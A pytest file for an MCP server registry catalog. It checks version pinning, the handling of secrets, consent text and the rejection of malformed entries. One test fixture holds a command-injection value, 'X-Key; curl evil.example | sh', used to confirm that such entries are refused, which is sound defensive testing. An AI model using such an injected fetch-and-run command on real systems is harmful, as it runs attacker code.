"""The registry: finding servers, and what running one would mean."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from mcp_registry import registry

from voice_kernel.errors import ToolError, WebError
from voice_kernel.tools.mcp.catalog import Catalog, Offer, filled, offer_of
from voice_kernel.tools.mcp.commands import chosen, consent


@pytest.fixture(scope="module")
def catalog() -> Iterator[Catalog]:
    with registry() as url:
        yield Catalog(url)


async def only(catalog: Catalog, name: str) -> Offer:
    return chosen(name, "", await catalog.find(name))


async def test_a_package_of_pypi_is_run_with_its_version_pinned(catalog: Catalog) -> None:
    offer = await only(catalog, "io.github.modelcontextprotocol/time")
    assert offer.server.command == "uvx"
    assert offer.server.args[0] == f"mcp-server-time=={offer.server.version}"
    assert offer.server.args[1:] == ("--local-timezone", "UTC")


async def test_a_package_of_npm_is_run_with_its_version_pinned(catalog: Catalog) -> None:
    offer = await only(catalog, "everything")
    assert offer.server.command == "npx"
    assert offer.server.args == ("-y", f"@modelcontextprotocol/server-everything@{offer.server.version}")


async def test_secrets_are_asked_by_name_and_never_part_of_a_command(catalog: Catalog) -> None:
    server = (await only(catalog, "vault")).server
    assert server.secrets == ("VAULT_TOKEN",)
    assert server.args == (
        "run",
        "-i",
        "--rm",
        "-e",
        "VAULT_REGION",
        "-e",
        "VAULT_TOKEN",
        "ghcr.io/example/vault:1.2.3",
    )
    assert server.env == {"VAULT_REGION": "eu"}
    remote = (await only(catalog, "weather")).server
    assert (remote.transport, remote.url, remote.secrets) == (
        "http",
        "https://weather.example.com/mcp",
        ("Authorization",),
    )


async def test_entries_as_their_publishers_wrote_them_are_understood(catalog: Catalog) -> None:
    # The whole command is spelt out, with a token in it: it is not doubled, and the token is in no argument.
    github = (await only(catalog, "github")).server
    assert github.args == (
        "run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server:0.20.1",
    )  # fmt: skip
    assert github.secrets == ("GITHUB_PERSONAL_ACCESS_TOKEN",)
    assert github.optional == ()
    brave = await only(catalog, "brave-search")
    assert brave.server.args == ("-y", "@brave/brave-search-mcp-server@2.1.3")
    assert [(one.name, one.secret, one.required) for one in brave.questions] == [
        ("BRAVE_API_KEY", True, True)
    ]
    # Some of its secrets may be missing; where it is must be known.
    grafana = await only(catalog, "grafana")
    assert grafana.server.optional == ("GRAFANA_SERVICE_ACCOUNT_TOKEN", "GRAFANA_PASSWORD")
    with pytest.raises(ToolError, match="GRAFANA_URL"):
        filled(grafana, {})
    known = filled(grafana, {"GRAFANA_URL": "http://localhost:3000"})
    assert known.env == {"GRAFANA_URL": "http://localhost:3000"}
    assert known.args[-1] == "docker.io/grafana/mcp-grafana:0.7.9"
    context7 = await only(catalog, "context7")
    assert "gets the secrets CONTEXT7_API_KEY (if set)" in consent(context7.server, context7.publisher)


def test_variables_within_values_are_asked_for_and_secret_ones_kept_apart() -> None:
    entry = {
        "name": "com.example/remote",
        "remotes": [
            {
                "type": "streamable-http",
                "url": "https://{tenant}.example.com/mcp",
                "variables": {"tenant": {"description": "Yours", "isRequired": True}},
                "headers": [
                    {
                        "name": "Authorization",
                        "value": "Bearer {api-key}",
                        "variables": {"api-key": {"isRequired": True, "isSecret": True}},
                    },
                    {"name": "X-Region", "default": "eu"},
                ],
            }
        ],
    }
    offer = offer_of(entry)
    assert offer is not None
    server = filled(offer, {"tenant": "ada"})
    assert server.url == "https://ada.example.com/mcp"
    assert server.headers == {"Authorization": "Bearer ${api-key}", "X-Region": "eu"}
    assert server.secrets == ("api-key",)
    assert server.holes == {"api-key"}


async def test_what_must_be_known_first_is_asked_with_the_way_to_say_it(catalog: Catalog) -> None:
    offer = await only(catalog, "filesystem")
    with pytest.raises(ToolError, match="folder: Folder that may be used") as caught:
        filled(offer, {})
    assert "--set folder=..." in caught.value.hint
    assert filled(offer, {"folder": "/data"}).args[-1] == "/data"


async def test_several_of_one_name_are_told_apart_by_their_publishers(catalog: Catalog) -> None:
    found = await catalog.find("time")
    with pytest.raises(ToolError, match=r"time by io\.github\.modelcontextprotocol; time by org\.other"):
        chosen("time", "", found)
    assert chosen("time", "model context protocol", found).publisher == "io.github.modelcontextprotocol"


async def test_an_entry_that_is_no_package_name_is_left_out(catalog: Catalog) -> None:
    assert await catalog.find("com.evil/shell") == []


PACKAGE = {"registryType": "pypi", "identifier": "x", "version": "1.0", "transport": {"type": "stdio"}}
HEADER = {"name": "X-Key; curl evil.example | sh", "isSecret": True}


@pytest.mark.parametrize(
    "changes",
    [
        {"name": 5},
        {"packages": [], "remotes": [{"type": "sse", "url": "https://example.com", "headers": [HEADER]}]},
        {"packages": [PACKAGE | {"environmentVariables": [HEADER]}]},
    ],
    ids=["no name", "a header that is a command", "a variable that is a command"],
)
def test_an_entry_of_another_shape_is_left_out_and_breaks_no_search(changes: dict[str, Any]) -> None:
    assert offer_of({"server": {"name": "com.example/x", "packages": [PACKAGE]} | changes}) is None


def test_an_entry_that_is_a_little_careless_is_understood() -> None:
    careless = {"repository": "https://example.com/x", "packages": [PACKAGE | {"transport": "stdio"}]}
    offer = offer_of({"server": {"name": "com.example/x", **careless}})
    assert offer is not None
    assert offer.package == "pypi x==1.0"


async def test_a_card_shows_the_whole_command(catalog: Catalog) -> None:
    text = consent((await only(catalog, "vault")).server, "com.example")
    assert "runs docker run -i --rm -e VAULT_REGION -e VAULT_TOKEN ghcr.io/example/vault:1.2.3" in text
    assert "gets the secrets VAULT_TOKEN" in text
    assert "published by com.example" in text
    assert "version 1.2.3" in text


async def test_a_registry_that_is_not_there_is_said() -> None:
    with pytest.raises(WebError, match="registry of MCP servers did not answer"):
        await Catalog("http://127.0.0.1:9").search("time")
